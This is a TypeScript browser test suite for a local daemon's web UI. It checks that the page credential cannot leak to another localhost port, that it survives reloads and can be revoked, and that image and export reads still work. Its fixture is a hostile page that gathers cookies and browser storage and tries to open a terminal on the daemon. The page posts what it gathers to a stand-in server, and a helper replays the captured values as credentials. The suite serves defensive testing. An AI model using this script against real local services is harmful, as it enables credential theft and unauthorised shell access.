import { readFileSync, writeFileSync } from "node:fs";
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { needs } from "@gantry/testkit";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eventually } from "../../harness/wait.ts";
import { CHROMIUM } from "../workbench/chromium.ts";
import { useWorkbench } from "../workbench/use-workbench.ts";
import type { Workbench } from "../workbench/workbench.ts";

const PATIENCE = { timeout: 60_000 };
const PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

type Received = { url: string; headers: IncomingHttpHeaders; body: string };

/** Another program on this machine. Its page collects what a script of its origin can read, and tries to call the daemon. */
class OtherProgram {
  readonly received: Received[] = [];
  readonly #server: Server;

  constructor(daemon: () => string) {
    this.#server = createServer((incoming, outgoing) => {
      let body = "";
      incoming.on("data", (chunk) => {
        body += chunk;
      });
      incoming.on("end", () => {
        this.received.push({ url: incoming.url ?? "", headers: incoming.headers, body });
        outgoing.writeHead(200, { "content-type": "text/html" }).end(hostilePage(daemon()));
      });
    });
  }

  async listen(): Promise<string> {
    await new Promise<void>((done) => this.#server.listen(0, "127.0.0.1", done));
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  close(): void {
    this.#server.closeAllConnections();
    this.#server.close();
  }
}

const hostilePage = (daemon: string) => `<!doctype html><title>Other</title><img src="${daemon}/v1/sessions">
<script>
  const call = (path, init) => fetch("${daemon}" + path, { credentials: "include", ...init })
    .then((answer) => answer.status, (error) => error.name);
  (async () => {
    const body = JSON.stringify({
      cookie: document.cookie,
      storage: { ...localStorage, ...sessionStorage },
      read: await call("/v1/sessions"),
      escaped: await call("/%761/sessions"),
      shell: await call("/v1/terminals", { method: "POST", body: "{}", headers: { "content-type": "application/json" } }),
      blind: await call("/v1/terminals", { method: "POST", mode: "no-cors", body: "{}" }),
    });
    await fetch("/collected", { method: "POST", body });
  })();
</script>`;

describe.skipIf(!CHROMIUM.met)("the page credential", needs(CHROMIUM), () => {
  let bench: Workbench;
  let other: OtherProgram;
  let otherUrl: string;
  useWorkbench((opened) => {
    bench = opened;
  });
  beforeAll(async () => {
    other = new OtherProgram(() => bench.url);
    otherUrl = await other.listen();
  });
  afterAll(() => other.close());

  const board = (page: Page) => page.getByRole("region", { name: "Board", exact: true });

  it("is not exposed to another port of the same host, and nothing that port receives authorises a call", async () => {
    const page = await bench.page();
    await board(page).waitFor(PATIENCE);
    const credential = await page.evaluate(
      () => JSON.parse(localStorage.getItem("gantry.credential") ?? "{}").credential,
    );
    expect(await page.context().cookies()).toEqual([]);

    const visitor = await page.context().newPage();
    await visitor.goto(`${otherUrl}/visit`);
    const collected = await eventually("the other program has tried everything", () =>
      other.received.find(({ url }) => url === "/collected"),
    );
    expect(JSON.parse(collected.body)).toMatchObject({
      ...{ cookie: "", storage: {}, read: "TypeError", escaped: "TypeError", shell: "TypeError" },
    });
    const everything = JSON.stringify(other.received);
    expect(everything).not.toContain(credential);
    expect(everything).not.toContain("gpc_");
    expect(other.received.filter(({ headers }) => headers.cookie ?? headers.authorization)).toEqual([]);
    expect(await bench.client.terminals.list()).toEqual([]);

    const replayed = await Promise.all(other.received.flatMap((received) => replay(bench.url, received)));
    expect(new Set(replayed)).toEqual(new Set([401]));
    const valid = await fetch(`${bench.url}/v1/sessions`, { headers: { authorization: `Bearer ${credential}` } });
    expect(valid.status).toBe(200);
  }, 240_000);

  it("survives a reload and a daemon restart, and ends when it is revoked", async () => {
    const page = await bench.page();
    await board(page).waitFor(PATIENCE);
    await page.reload();
    await board(page).waitFor(PATIENCE);
    await bench.kill();
    await bench.start();
    await page.reload();
    await board(page).waitFor(PATIENCE);
    expect(page.url()).not.toContain("ticket");
    await bench.client.revokePages();
    await page.getByText("gantry web").waitFor(PATIENCE);
    await page.reload();
    await page.getByText("gantry web").waitFor(PATIENCE);
  }, 240_000);

  it("is required: a browser without one shows how to log in, and an old cookie is removed", async () => {
    const context = await bench.browser.newContext();
    await context.addCookies([{ name: "gantry_session", value: "9999999999.a.b", url: bench.url }]);
    const page = await context.newPage();
    await page.goto(bench.url);
    await page.getByText("gantry web").waitFor(PATIENCE);
    expect(await context.cookies()).toEqual([]);
    await context.close();
  }, 240_000);

  it("reads images and exports, which browsers fetch without headers", async () => {
    writeFileSync(join(bench.folder, "pixel.png"), Buffer.from(PIXEL, "base64"));
    const attachments = [{ path: join(bench.folder, "pixel.png"), name: "pixel.png", mime: "image/png" }];
    const session = await bench.session("[[text]] look", { title: "Pictures", attachments });
    await bench.waitForState(session.id, "idle");
    const page = await bench.page(`/s/${session.id}`);
    const image = page.getByRole("log", { name: "Transcript" }).getByRole("img", { name: "pixel.png" });
    await image.waitFor(PATIENCE);
    await expect.poll(() => image.evaluate((element: HTMLImageElement) => element.naturalWidth), PATIENCE).toBe(1);

    await page.getByRole("button", { name: "Session menu" }).click();
    await page.getByRole("menuitem", { name: /Export/ }).click();
    const dialog = page.getByRole("dialog", { name: "Export session" });
    await dialog.getByText("Markdown").click();
    const [download] = await Promise.all([
      page.waitForEvent("download", PATIENCE),
      dialog.getByRole("button", { name: "Export", exact: true }).click(),
    ]);
    expect(download.suggestedFilename()).toMatch(/\.md$/);
    expect(readFileSync(await download.path(), "utf8")).toContain("look");
    await dialog.waitFor({ state: "detached", ...PATIENCE });
  }, 240_000);
});

/** Sends the received headers and values to the daemon, unchanged and each as a credential. */
function replay(daemon: string, { headers, body }: Received): Promise<number>[] {
  const own = { origin: daemon, "sec-fetch-site": "same-origin", "content-type": "application/json" };
  const values = [...Object.values(headers).map(String), body].filter((value) => /^[\x21-\x7e]{1,4000}$/.test(value));
  const given: Record<string, string>[] = [
    headers.cookie ? { cookie: headers.cookie } : {},
    ...values.map((value) => ({ authorization: `Bearer ${value}` })),
    ...values.map((value) => ({ cookie: `gantry_session=${value}` })),
  ];
  return given.flatMap((credentials) => [
    fetch(`${daemon}/v1/sessions`, { headers: { ...own, ...credentials } }).then(({ status }) => status),
    fetch(`${daemon}/v1/terminals`, { method: "POST", headers: { ...own, ...credentials }, body: "{}" }).then(
      ({ status }) => status,
    ),
  ]);
}
